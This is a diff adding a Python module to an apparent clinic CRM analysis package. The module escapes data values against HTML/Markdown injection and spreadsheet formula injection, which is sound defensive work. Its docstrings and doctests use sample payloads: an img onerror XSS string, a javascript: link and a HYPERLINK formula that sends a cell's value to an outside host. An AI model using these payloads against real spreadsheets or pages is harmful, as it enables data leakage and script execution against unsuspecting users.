@@ -1,0 +1,214 @@
+"""Values from the clinic's data, made safe where they are shown: a browser and a spreadsheet.
+
+The data is not ours: a department, a name or an id in an export can hold text that acts when it is
+shown. Two places run such text, and each has its helper here, used by every writer:
+
+**HTML** (``report.html``, the executed notebooks). A department named
+``피부과<img src=x onerror=...>`` must reach the manager's browser as text, never as an element.
+
+- :func:`escaped_style` is the one way a table from the data becomes a styled HTML table
+  (pandas' Styler does not escape by default): every cell, header, index label and axis name is escaped.
+- :func:`markdown_text` escapes text for a Markdown output, so ``[x](javascript:...)`` stays text.
+
+Text built by hand into HTML is escaped with :func:`html.escape` where it is built.
+
+**Spreadsheets** (the CSV and XLSX staff lists, and the CSV and XLSX files of
+:func:`crm_analysis.io.write_clinic`). A patient named ``=HYPERLINK("http://x/?"&C2,"확인")`` must reach
+the receptionist's Excel as a name, never as a formula.
+
+- :func:`neutralise_formulas` puts a single quote before every text cell that starts with a formula
+  trigger (``=``, ``+``, ``-``, ``@``, tab, carriage return), as OWASP recommends for CSV injection.
+  Numbers, dates and yes/no values are left as they are (a negative amount stays a number), and
+  phone numbers stay readable (``010-1234-5678`` starts with a digit; ``+82 10-...`` becomes
+  ``'+82 10-...``). With no text starting with ``=`` left, openpyxl writes no formula either.
+- :func:`restore_formulas` undoes it, so that reading a file this package wrote gives back the
+  values it was given (:mod:`crm_analysis.coercion` applies it to text columns on loading).
+"""
+
+from __future__ import annotations
+
+import re
+from html import escape
+from typing import Mapping
+
+import numpy as np
+import pandas as pd
+
+__all__ = ["FORMULA_TRIGGERS", "neutralise_formulas", "restore_formulas", "escaped_style", "markdown_text"]
+
+#: Characters that make a spreadsheet read a cell as a formula when they come first.
+FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+
+#: The triggers as a regular-expression class (plain enough for Arrow's RE2 and Python's re alike).
+_TRIGGER_CLASS = r"[=+\-@\t\r]"
+_TRIGGERED = "^" + _TRIGGER_CLASS
+_ESCAPED = "^'" + _TRIGGER_CLASS
+#: Inferred kinds of an object column that can hold text (a column of numbers or dates holds none).
+_TEXT_KINDS = frozenset({"string", "mixed", "mixed-integer", "empty"})
+#: Every ASCII punctuation character: Markdown reads each of them literally after a backslash.
+_MARKDOWN_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
+
+
+def _is_text(values: pd.Series | pd.Index) -> bool:
+    """Whether `values` can hold text cells (string dtype, or objects that are not all numbers or dates)."""
+    if isinstance(values.dtype, pd.StringDtype):
+        return True
+    return pd.api.types.is_object_dtype(values.dtype) and pd.api.types.infer_dtype(values, skipna=True) in _TEXT_KINDS
+
+
+def _prefixed(values: pd.Series) -> pd.Series | None:
+    """`values` with ``'`` before each text cell that starts with a trigger, or None when none does."""
+    if isinstance(values.dtype, pd.CategoricalDtype):
+        categories = pd.Series(values.cat.categories)
+        renamed = _prefixed(categories)
+        if renamed is None:
+            return None
+        if renamed.is_unique:  # each category escaped once, not each cell
+            return values.cat.rename_categories(renamed.to_numpy())
+        return _prefixed(values.astype(object))
+    if not _is_text(values):
+        return None
+    hit = values.str.contains(_TRIGGERED, regex=True, na=False).to_numpy(dtype=bool)
+    if not hit.any():
+        return None
+    out = values.copy()
+    out.iloc[np.flatnonzero(hit)] = ("'" + values[hit]).to_numpy()
+    return out
+
+
+def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` in which no text cell or column header can act as a spreadsheet formula.
+
+    Every text value that starts with one of :data:`FORMULA_TRIGGERS` gets a leading single quote
+    (OWASP's advice against CSV injection): ``=HYPERLINK(...)`` becomes ``'=HYPERLINK(...)``, shown
+    as typed. Columns of numbers, dates, times and booleans are left alone, and so is the index
+    unless it holds text. Every writer of CSV or XLSX files holding data calls this first.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        Not modified.
+
+    Returns
+    -------
+    pandas.DataFrame
+        Same shape, index, dtypes (a category's categories are escaped) and column order.
+
+    See Also
+    --------
+    restore_formulas : The inverse, for reading such a file back.
+
+    Examples
+    --------
+    >>> frame = pd.DataFrame({"name": ["=1+1", "김민준"], "phone": ["+82 10-1234-5678", "010-1234-5678"],
+    ...                       "balance": [-5, 3]})
+    >>> neutralise_formulas(frame).to_dict("list")
+    {'name': ["'=1+1", '김민준'], 'phone': ["'+82 10-1234-5678", '010-1234-5678'], 'balance': [-5, 3]}
+    """
+    out = frame.copy(deep=False)
+    for position in range(frame.shape[1]):
+        escaped = _prefixed(frame.iloc[:, position])
+        if escaped is not None:
+            out.isetitem(position, escaped)
+    headers = _prefixed(pd.Series(frame.columns, dtype=object))
+    if headers is not None:
+        out.columns = pd.Index(headers.to_numpy(), name=frame.columns.name)
+    if not isinstance(frame.index, pd.MultiIndex):
+        labels = _prefixed(frame.index.to_series(index=range(len(frame.index))))
+        if labels is not None:
+            out.index = pd.Index(labels.to_numpy(), name=frame.index.name)
+    return out
+
+
+def restore_formulas(values: pd.Series) -> pd.Series:
+    """`values` with the single quote :func:`neutralise_formulas` added taken off again.
+
+    A text value that starts with ``'`` followed by a formula trigger loses the quote; anything
+    else is returned as it is.
+
+    Parameters
+    ----------
+    values : pandas.Series
+        Text (a string dtype or objects). Not modified.
+
+    Returns
+    -------
+    pandas.Series
+
+    Examples
+    --------
+    >>> restore_formulas(pd.Series(["'=1+1", "'quoted'", "010-1234-5678"])).tolist()
+    ['=1+1', "'quoted'", '010-1234-5678']
+    """
+    if not _is_text(values):
+        return values
+    hit = values.str.contains(_ESCAPED, regex=True, na=False).to_numpy(dtype=bool)
+    if not hit.any():
+        return values
+    out = values.copy()
+    out.iloc[np.flatnonzero(hit)] = values[hit].str.slice(1).to_numpy()
+    return out
+
+
+def escaped_style(frame: pd.DataFrame, formats: Mapping | None = None, *, na_rep: str = "–"):
+    """``frame.style`` with every value from the data HTML-escaped: cells, headers, index labels, axis names.
+
+    The one way a table becomes a styled HTML table in the report: pandas' Styler shows text as
+    HTML unless told otherwise. Further ``.format(...)`` calls on the result must pass
+    ``escape="html"`` too, or the cells they format are shown raw again.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        Not modified.
+    formats : mapping, optional
+        Column -> format string or function, as for :meth:`pandas.io.formats.style.Styler.format`;
+        every column not named is shown as text.
+    na_rep : str
+        Shown for missing values (not escaped: it comes from the code, not the data).
+
+    Returns
+    -------
+    pandas.io.formats.style.Styler
+
+    Examples
+    --------
+    >>> frame = pd.DataFrame({"<b>과</b>": ["<img src=x onerror=alert(1)>"]})
+    >>> html = escaped_style(frame).to_html()
+    >>> "<img" in html, "&lt;img src=x onerror=alert(1)&gt;" in html, "&lt;b&gt;과&lt;/b&gt;" in html
+    (False, True, True)
+    """
+    shown = frame.rename_axis(index=[_escaped_name(n) for n in frame.index.names],
+                              columns=[_escaped_name(n) for n in frame.columns.names])
+    styler = shown.style.format(na_rep=na_rep, escape="html")
+    if formats:
+        styler = styler.format(dict(formats), na_rep=na_rep, escape="html")
+    return styler.format_index(escape="html", axis=0).format_index(escape="html", axis=1)
+
+
+def _escaped_name(name: object) -> object:
+    """An axis name as the Styler shows it (it does not escape axis names itself)."""
+    return escape(name) if isinstance(name, str) else name
+
+
+def markdown_text(text: str) -> str:
+    """`text` for a Markdown output, shown exactly as it is: no link, image, markup or HTML can form.
+
+    Every ASCII punctuation character is escaped with a backslash (Markdown then reads it
+    literally), so ``[x](javascript:alert(1))`` and ``<script>`` stay text. Use it for any text
+    from the data or the rules in ``IPython.display.Markdown``.
+
+    Parameters
+    ----------
+    text : str
+
+    Returns
+    -------
+    str
+
+    Examples
+    --------
+    >>> markdown_text("[x](javascript:alert(1))")
+    '\\\\[x\\\\]\\\\(javascript\\\\:alert\\\\(1\\\\)\\\\)'
+    """
+    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", str(text))
